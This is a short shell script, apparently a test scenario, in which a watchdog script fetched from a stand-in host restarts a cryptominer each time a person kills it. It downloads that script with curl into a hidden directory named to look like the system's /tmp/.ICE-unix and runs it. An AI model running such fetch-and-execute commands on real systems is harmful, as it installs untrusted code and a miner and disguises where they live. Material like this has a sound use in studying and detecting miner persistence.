# A dropped script starts a miner and watches it. A person kills the miner three times, and the script starts it again
# within a second. Then the person kills the script and the miner.
mkdir /tmp/.ICE-unix-1
curl -fsS -o /tmp/.ICE-unix-1/session http://203.0.113.10/watch.sh
chmod +x /tmp/.ICE-unix-1/session
/tmp/.ICE-unix-1/session &
script=$!
for time in 1 2 3; do
    sleep 5
    kill "$(cat /tmp/.ICE-unix-1/pid)"
done
sleep 5
kill "$script"
kill "$(cat /tmp/.ICE-unix-1/pid)"
sleep 0.2
